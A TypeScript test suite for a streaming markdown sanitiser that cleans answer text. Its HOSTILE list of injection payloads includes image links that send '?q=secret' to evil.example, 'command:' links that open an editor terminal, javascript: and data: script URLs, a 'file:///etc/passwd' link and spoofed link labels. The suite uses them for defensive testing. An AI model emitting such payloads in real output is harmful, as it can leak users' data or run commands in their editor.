import assert from 'node:assert/strict';
import fc from 'fast-check';
import { linkLabel, SafeMarkdown } from '../../../src/answer/safeMarkdown.ts';
import { assertSafeMarkdown, HTML_RENDERER } from '../support/safeMarkup.ts';

function safe(...pieces: readonly string[]): string {
  const filter = new SafeMarkdown();
  return pieces.map((piece) => filter.push(piece)).join('') + filter.end();
}

const HOSTILE = [
  '![x](https://evil.example/p.png?q=secret)',
  '[x](command:workbench.action.terminal.new)',
  '[x](COMMAND:workbench.action.terminal.new?%5B%5D "Open")',
  '[x](<command:a b>)',
  '[x]( command:a )',
  '[x](\ncommand:a)',
  '[x](comm&#97;nd:a)',
  '[x](command&colon;a)',
  '[x](com\\mand:a)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vscode://netguru.netguru/x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/p)',
  '[x](https://good.example@evil.example/)',
  '[https://good.example](https://evil.example/)',
  '[x](https://evil.example "https://good.example")',
  '[x][a]\n\n[a]: command:a',
  '[a]\n\n[a]: https://evil.example',
  '![a]\n\n[a]: https://evil.example/p.png',
  '> [a]:\n> command:a\n\n[a]',
  '<command:a>',
  '<a href="command:a">x</a>',
  '<img src="https://evil.example/p.png">',
  '<!-- x --><b>y</b>',
  '- ```\n[x](command:a)',
  '- ```\n![x](https://evil.example/p.png)',
  '> ```\n[x](command:a)\n<command:a>',
  '> ```\n[a]: command:a\n\n[a]',
  '    ```\n[x](command:a)',
  '`\n\n[x](command:a)`',
  '\\`[x](command:a)`',
  '[x`](command:a)`',
  '~~~\n```\n~~~\n[x](command:a)',
  '[![x](https://evil.example/p.png)](command:a)',
  '[[x](command:a)](https://evil.example/)',
  '[x\\](command:a)](https://evil.example/)',
  '*[x*](command:a)',
  '| a |\n|-|\n| ![x](https://evil.example/p.png) |',
];

describe('SafeMarkdown', () => {
  for (const markdown of HOSTILE) {
    it(`makes harmless: ${JSON.stringify(markdown)}`, () => {
      assertSafeMarkdown(safe(markdown));
      assertSafeMarkdown(safe(markdown), HTML_RENDERER);
    });
  }

  it('does the same however the stream is cut', () => {
    for (const markdown of HOSTILE) {
      assert.equal(safe(...markdown), safe(markdown), markdown);
      for (let at = 0; at < markdown.length; at++) {
        assert.equal(safe(markdown.slice(0, at), markdown.slice(at)), safe(markdown), markdown);
        assertSafeMarkdown(safe(markdown.slice(0, at)));
      }
    }
  });

  it('makes anything harmless that is put together', () => {
    const marks = ['\n', '\n\n', '`', '```', '~~~', '[', ']', '(', ')', '<', '>', '!', '\\', ':'];
    const more = ['- ', '> ', '    ', '1. ', 'command:a', 'https://evil.example', '](', '![', ']:'];
    const piece = fc.constantFrom(...HOSTILE, ...marks, ...more, 'x', ' ', '&#99;', '"', '|');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const whole = safe(parts.join(''));
        assertSafeMarkdown(whole);
        assert.equal(safe(...parts), whole);
      }),
      { numRuns: 3_000 },
    );
  });

  const kept = [
    'a **b** *c* `d[1]` [2] and [1][2], x is y',
    '```\nneighbor <address> [0-9](_|$)\nserver [::1]:80 !\n```\nend! x',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    'as-path `_[0-9](1|2)_`',
    '- one\n  - two\n1. three',
    'Escaped: \\[x\\] \\* \\`',
    '1. Set it:\n   ```\n   neighbor <address> activate\n\n   server [::1]:80\n   ```\n2. Done',
    '- `<secret:password-1>` is set',
  ];
  for (const markdown of kept) {
    it(`leaves alone: ${JSON.stringify(markdown)}`, () => assert.equal(safe(markdown), markdown));
  }

  it('shows the host of a link', () => {
    assert.equal(
      safe('See [RFC 4271](https://www.rfc-editor.org/rfc/rfc4271).'),
      'See [RFC 4271](https://www.rfc-editor.org/rfc/rfc4271) (www.rfc-editor.org).',
    );
  });

  it('does not let what follows a piece become a picture', () => {
    const filter = new SafeMarkdown();
    assert.equal(filter.push('Stop!') + filter.end(), 'Stop\\!');
  });

  it('takes time in proportion to the text', () => {
    for (const mark of ['](', '![', '`', '[', '<', '\\', '~~~\n', '](x', ']:']) {
      const text = mark.repeat(100_000);
      const startedAt = performance.now();
      safe(text);
      assert.ok(performance.now() - startedAt < 5_000, mark);
    }
  });
});

describe('linkLabel', () => {
  it('cannot end the link that it is the text of', () => {
    const label = linkLabel('x](command:a) [y\\`<b>.cfg');
    assert.doesNotMatch(label, /[[\]\\`<>]/);
    assert.match(label, /^x .*y .*b .*cfg$/);
  });
});
